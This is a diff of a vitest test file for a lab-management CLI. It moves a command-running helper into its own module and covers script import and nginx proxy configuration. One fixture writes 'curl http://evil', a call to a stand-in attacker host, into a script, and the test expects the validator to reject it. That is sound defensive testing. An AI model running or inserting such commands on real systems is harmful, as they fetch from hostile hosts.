@@ -2,25 +2,13 @@ import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
-import { createProgram } from '../../src/main/cli/program.ts'
 import { openStores } from '../../src/main/journal/index.ts'
 import { demoLab, readLabFile } from '../../src/main/open-lab.ts'
 import { createSystemClock } from '../../src/main/system-clock.ts'
 import { parseDocument } from '../../src/shared/document/index.ts'
+import { runProgram } from './run-program.ts'
 
 const clock = createSystemClock()
-
-/** Runs a command in this process and gives back what it printed. */
-const run = async (...args: readonly string[]): Promise<string> => {
-  const printed: string[] = []
-  const output = {
-    print: (text: string) => void printed.push(text),
-    say: (text: string) => void printed.push(text),
-    colour: false,
-  }
-  await createProgram({ output, clock }).parseAsync(['node', 'headwaiter', ...args])
-  return printed.join('\n')
-}
 
 describe('the commands of a closed lab', () => {
   let lab: string
@@ -40,11 +28,11 @@ describe('the commands of a closed lab', () => {
     await writeFile(first ?? '', 'log one\n')
     await writeFile(second ?? '', 'log two\n')
     const files = [first ?? '', second ?? '']
-    const done = await run('import', 'scripts', ...files, '--name', 'boot', '--lab', lab)
+    const done = await runProgram('import', 'scripts', ...files, '--name', 'boot', '--lab', lab)
     expect(done).toBe('Imported boot with 2 scripts.')
     await writeFile(second ?? '', 'log two\ncurl http://evil\n')
     await expect(
-      run('import', 'scripts', ...files, '--name', 'boot', '--lab', lab),
+      runProgram('import', 'scripts', ...files, '--name', 'boot', '--lab', lab),
     ).rejects.toMatchObject({ code: 'document.bad-script', details: { line: 2 } })
     const stores = await open()
     const { scriptBundles } = parseDocument(stores.documents.current()?.document)
@@ -62,7 +50,14 @@ describe('the commands of a closed lab', () => {
 
   it('print a configuration of nginx for the waiter of the lab', async () => {
     const { network } = await readLabFile(demoLab)
-    const text = await run('proxy-config', 'nginx', '--lab', lab, '--listen', '10.0.0.9:5100')
+    const text = await runProgram(
+      'proxy-config',
+      'nginx',
+      '--lab',
+      lab,
+      '--listen',
+      '10.0.0.9:5100',
+    )
     expect(text).toContain(`proxy_pass http://${network.server}:${network.ports.waiter};`)
     expect(text).toContain('listen 10.0.0.9:5100;')
   })
